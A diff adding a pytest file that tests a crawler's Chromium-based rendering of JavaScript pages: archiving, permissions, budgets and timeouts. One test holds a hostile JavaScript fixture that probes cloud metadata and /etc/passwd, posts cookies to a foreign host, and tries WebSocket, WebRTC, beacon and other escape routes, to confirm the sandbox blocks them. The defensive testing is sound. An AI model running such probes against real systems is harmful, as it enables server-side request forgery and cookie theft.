@@ -1,0 +1,255 @@
+"""Shells drawn by a real Chromium, from crawl to archive."""
+
+from __future__ import annotations
+
+import shutil
+import socket
+from collections.abc import Callable
+from contextlib import closing, suppress
+from datetime import timedelta
+from pathlib import Path
+from typing import Any
+from urllib.parse import urlsplit
+
+import pytest
+
+from config.model import Settings
+from config.pack import Pack
+from crawler.archive.members import Member, members
+from crawler.archive.reader import Archive
+from crawler.archive.record import decode_note
+from crawler.archive.recovery import rebuild
+from crawler.capture import Capture, ExchangeOutcome, How, Purpose
+from crawler.coverage import RunCoverage
+from crawler.policy import FetchPolicy
+from crawler.render.rules import Asked
+from crawler.run import crawl_night
+from crawler.verdicts import Verdict, classify
+from tests.crawler.support import NIGHT, Reply, Web, html
+
+pytestmark = [
+    pytest.mark.full,
+    pytest.mark.skipif(shutil.which("chromium") is None, reason="no chromium on PATH"),
+]
+Make = Callable[..., Settings]
+Night = Callable[..., RunCoverage]
+
+SHELL = Reply(
+    b"<!doctype html><html><head><title>gov</title></head><body><div id=root></div><script src=/app.js></script></body></html>",
+    headers={"Content-Type": "text/html; charset=utf-8"},
+)
+APP = """
+const root = document.getElementById('root');
+fetch('/api' + location.pathname).then(answer => answer.json()).then(page => {
+  document.title = page.title;
+  root.innerHTML = '<h1>' + page.title + '</h1><p>' + page.text + '</p>' +
+    page.links.map(link => '<a href="' + link + '">' + link + '</a>').join(' ');
+});
+"""
+
+
+def script(text: str) -> Reply:
+    return Reply(text.encode(), headers={"Content-Type": "text/javascript"})
+
+
+def data(title: str, *links: str) -> Reply:
+    listed = ", ".join(f'"{link}"' for link in links)
+    text = f'{{"title": "{title}", "text": "{"Сөз мәтін " * 60}", "links": [{listed}]}}'
+    return Reply(text.encode(), headers={"Content-Type": "application/json"})
+
+
+@pytest.fixture
+def night(pack: Pack) -> Night:
+    return lambda settings: crawl_night(settings, pack, NIGHT, "nightly", FetchPolicy(), progress=lambda _: None)
+
+
+@pytest.fixture
+def shells(web: Web) -> Web:
+    web.pages |= {
+        "/robots.txt": Reply(b"User-agent: *\nDisallow: /api/secret\n"),
+        "/app.js": script(APP),
+        "/api/": data("Home", "/news", "/secret"),
+        "/api/news": data("News"),
+        "/api/secret": data("Secret"),
+    }
+    web.fallback = lambda path: Reply(b"", 404) if path.startswith("/api/") else SHELL
+    return web
+
+
+def allowed(settings: Settings, *hosts: str) -> Settings:
+    given = [
+        {"host": host, "by": "owner", "date": "2026-01-01", "allows": ["render"]} for host in hosts or ("good.lab",)
+    ]
+    return Settings.model_validate(settings.model_dump() | {"permissions": given})
+
+
+def captures(settings: Settings, **wanted: Any) -> list[Capture]:
+    with Archive(settings.workspace) as archive:
+        found = list(archive.captures(until=NIGHT))
+    return [item for item in found if all(getattr(item, name) == value for name, value in wanted.items())]
+
+
+def test_a_shell_is_drawn_and_both_are_kept(installation: Make, night: Night, shells: Web) -> None:
+    settings = allowed(installation({"good": [shells.url("good.lab")]}))
+    coverage = night(settings)
+    drawn = {item.key.url: item for item in captures(settings, how=How.RENDERED)}
+    assert sorted(drawn) == [shells.url("good.lab", path) for path in ("/", "/news", "/secret")]
+    plain = {item.key.url: item for item in captures(settings, how=How.PLAIN, purpose=Purpose.PAGE)}
+    assert plain.keys() == drawn.keys()
+    rebuild(settings.workspace)
+    with Archive(settings.workspace) as archive:
+        home = drawn[shells.url("good.lab")]
+        body = archive.body(home)
+        assert "Сөз мәтін".encode() in body
+        assert classify(home, body).verdict is Verdict.PAGE
+        shell = plain[shells.url("good.lab")]
+        assert classify(shell, archive.body(shell)).verdict is Verdict.JS_SHELL
+        secret = drawn[shells.url("good.lab", "/secret")]
+        assert classify(secret, archive.body(secret)).verdict is Verdict.JS_SHELL, "its data is not for robots"
+    assert not any("/api/secret" in path for path in shells.paths())
+    assert shells.paths().count("/app.js") == 1, "the pages of a site share its scripts"
+    assert coverage.scopes[0].known == coverage.scopes[0].fetched == 3, "drawing costs no account"
+
+
+def test_without_permission_nothing_is_drawn_and_it_is_said(installation: Make, night: Night, shells: Web) -> None:
+    settings = installation({"good": [shells.url("good.lab")]})
+    assert night(settings).hosts[0].incidents == ("js_shell:no_permission",)
+    assert captures(settings, how=How.RENDERED) == []
+    assert shells.paths() == ["/robots.txt", "/"]
+
+
+HOSTILE = """
+const other = 'http://other.lab:PORT', trap = '127.0.0.1:TRAP', attempts = [];
+const attempt = (name, work) => attempts.push((async () => { try { await work(); } catch (error) { } })());
+const add = (tag, values) => { const node = document.createElement(tag); Object.assign(node, values);
+  for (const name in values) try { node.setAttribute(name, values[name]); } catch (error) { }
+  document.body.append(node); return node; };
+for (const url of [other + '/fetch', 'http://' + trap, 'http://localhost:TRAP', 'http://[::1]:TRAP',
+                   'http://2130706433:TRAP', 'http://169.254.169.254/latest/meta-data', 'file:///etc/passwd'])
+  attempt('fetch', () => fetch(url, {mode: 'no-cors'}));
+attempt('post', () => fetch(other + '/post', {method: 'POST', mode: 'no-cors', body: document.cookie}));
+for (const url of [other + '/socket', 'http://good.lab:PORT/socket', 'http://' + trap])
+  attempt('socket', () => new Promise((good, bad) => { const way = new WebSocket(url.replace('http', 'ws'));
+    way.onopen = () => { way.send('hello'); good(); }; way.onclose = bad; }));
+attempt('rtc', async () => { const way = new RTCPeerConnection({iceServers: [{urls: 'stun:' + '127.0.0.1:UDP'}]});
+  way.createDataChannel('x'); await way.setLocalDescription(await way.createOffer()); });
+attempt('rtc in a frame', async () => { const inner = add('iframe', {srcdoc: '<p>x</p>'});
+  await new Promise(done => inner.onload = done);
+  const way = new inner.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]});
+  way.createDataChannel('x'); await way.setLocalDescription(await way.createOffer()); });
+attempt('transport', () => new WebTransport('https://' + trap).ready);
+attempt('beacon', () => navigator.sendBeacon(other + '/beacon', 'x') || navigator.sendBeacon('/beacon', 'x'));
+attempt('beacon home', () => navigator.sendBeacon('/beacon', 'x'));
+attempt('worker', () => navigator.serviceWorker.register('/worker.js'));
+attempt('thread', () => new Worker(URL.createObjectURL(new Blob([`fetch('${other}/thread')`]))));
+attempt('events', () => new EventSource(other + '/events'));
+for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'prerender', 'modulepreload', 'stylesheet', 'icon'])
+  add('link', {rel, href: other + '/' + rel});
+add('script', {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{source: 'list', urls: [other + '/rules']}]})});
+for (const [tag, name] of [['img', 'src'], ['script', 'src'], ['iframe', 'src'], ['video', 'src'], ['audio', 'src'],
+                           ['embed', 'src'], ['object', 'data'], ['link', 'href']])
+  add(tag, {[name]: other + '/' + tag});
+add('img', {src: '/own.png'}); add('iframe', {src: 'http://' + trap});
+const style = document.createElement('style');
+style.textContent = `@import '${other}/import.css'; @font-face {font-family: x; src: url(/own.woff)} body {font-family: x; background: url(${other}/bg.png)}`;
+document.head.append(style);
+window.open(other + '/popup'); window.open('/popup');
+add('a', {href: other + '/download', download: 'x.bin', textContent: 'x'}).click();
+add('a', {href: '/download', download: 'x.bin', textContent: 'x'}).click();
+add('a', {href: '#', ping: other + '/ping', textContent: 'x'}).click();
+const form = add('form', {action: other + '/form', method: 'post', target: '_blank'}); form.submit();
+setTimeout(() => { const end = document.createElement('p'); end.textContent = 'аяқталды '.repeat(40); document.body.append(end); }, 800);
+"""
+
+
+def test_a_hostile_page_gets_nowhere(installation: Make, night: Night, web: Web, tmp_path: Path) -> None:
+    caught: list[bytes] = []
+    with closing(socket.socket()) as trap, closing(socket.socket(type=socket.SOCK_DGRAM)) as datagrams:
+        trap.bind(("127.0.0.1", 0))
+        trap.listen()
+        datagrams.bind(("127.0.0.1", 0))
+        text = HOSTILE.replace("PORT", str(web.port)).replace("TRAP", str(trap.getsockname()[1]))
+        web.pages |= {
+            "/robots.txt": Reply(b"", 404),
+            "/app.js": script(text.replace("UDP", str(datagrams.getsockname()[1]))),
+            "good.lab/": Reply(SHELL.body, headers={**SHELL.headers, "Set-Cookie": "ticket=1"}),
+        }
+        settings = allowed(installation({"good": [web.url("good.lab")]}))
+        night(settings)
+        for ears in (trap, datagrams):
+            ears.setblocking(False)
+        with suppress(BlockingIOError):
+            caught.append(str(trap.accept()).encode())
+        with suppress(BlockingIOError):
+            caught.append(datagrams.recv(100))
+    assert caught == [], "nothing reached an address that is no host of the page"
+    (drawn,) = captures(settings, how=How.RENDERED)
+    assert drawn.outcome is ExchangeOutcome.OK
+    with Archive(settings.workspace) as archive:
+        body = archive.body(drawn).decode()
+    assert "аяқталды" in body, "the page went through all it had in mind"
+    assert {item.headers["host"] for item in web.seen} == {f"good.lab:{web.port}"}
+    assert set(web.paths()) <= {"/robots.txt", "/", "/app.js", "/popup", "/download"}
+    assert all("cookie" not in item.headers for item in web.seen if "odrc" in item.headers["user-agent"][:5])
+    asked = asked_for(settings)
+    at_the_door = {(item.url, item.outcome) for item in asked if item.by == "proxy" and item.outcome == "sent"}
+    assert {urlsplit(url).hostname for url, _ in at_the_door} == {"good.lab"}
+    assert {"other_host", "kind_ping", "kind_websocket"} <= {item.outcome for item in asked}
+    assert not list(tmp_path.rglob("x.bin*"))
+
+
+def asked_for(settings: Settings) -> list[Asked]:
+    notes = (
+        decode_note(item.record)
+        for path in settings.workspace.rglob("*.warc.gz")
+        for item in members(path)
+        if isinstance(item, Member)
+    )
+    return [item for note in notes if note for item in note.asked]
+
+
+def test_what_cannot_be_drawn_says_why(installation: Make, night: Night, web: Web) -> None:
+    slow = script("fetch('/never')")
+    web.pages |= {
+        "/robots.txt": Reply(b"", 404),
+        "/": html("home", "/slow", "/away", "/gone"),
+        "/slow": Reply(SHELL.body.replace(b"/app.js", b"/slow.js"), headers=SHELL.headers),
+        "/away": Reply(SHELL.body.replace(b"/app.js", b"/away.js"), headers=SHELL.headers),
+        "/slow.js": Reply(b"", delay=30),
+        "/away.js": script(f"location = '{web.url('other.lab', '/elsewhere')}'"),
+        "/never": slow,
+    }
+    settings = allowed(installation({"good": [web.url("good.lab")]}, render={"timeout": 6}))
+    night(settings)
+    found = {urlsplit(item.key.url).path: item for item in captures(settings, how=How.RENDERED)}
+    assert found["/slow"].outcome is ExchangeOutcome.TIMEOUT
+    assert found["/slow"].detail
+    assert found["/away"].url == web.url("good.lab", "/away"), "a page that may not leave stays"
+    assert "other.lab" not in {item.headers["host"].partition(":")[0] for item in web.seen}
+
+
+def test_the_budget_and_the_same_bytes_on_the_next_night(installation: Make, pack: Pack, shells: Web) -> None:
+    settings = allowed(installation({"good": [shells.url("good.lab")]}, render={"budget": 2}))
+    first = crawl_night(settings, pack, NIGHT, "one", FetchPolicy(), progress=lambda _: None)
+    assert first.hosts[0].incidents == ("js_shell:render_budget",)
+    later = NIGHT + timedelta(days=1)
+    roomy = allowed(installation({"good": [shells.url("good.lab")]}, render={"budget": 9}))
+    crawl_night(roomy, pack, later, "two", FetchPolicy(), progress=lambda _: None)
+    with Archive(settings.workspace) as archive:
+        drawn = [item for item in archive.captures(until=later) if item.how is How.RENDERED]
+        bodies = {item.night: archive.body(item) for item in drawn if item.key.url == shells.url("good.lab")}
+        assert bodies[NIGHT] == bodies[later]
+        again = [item for item in drawn if item.night == later and item.key.url == shells.url("good.lab")]
+        assert again[0].refers_to is not None, "the same bytes are kept once"
+
+
+def test_a_browser_that_cannot_be_started(installation: Make, night: Night, shells: Web, tmp_path: Path) -> None:
+    broken = tmp_path / "chromium"
+    broken.write_text("#!/bin/sh\nexit 7\n")
+    broken.chmod(0o755)
+    settings = allowed(installation({"good": [shells.url("good.lab")]}, render={"browser": str(broken)}))
+    night(settings)
+    (failed,) = captures(settings, how=How.RENDERED)
+    assert failed.outcome is ExchangeOutcome.INVALID
+    assert failed.detail is not None
+    assert failed.detail.startswith("browser: ")
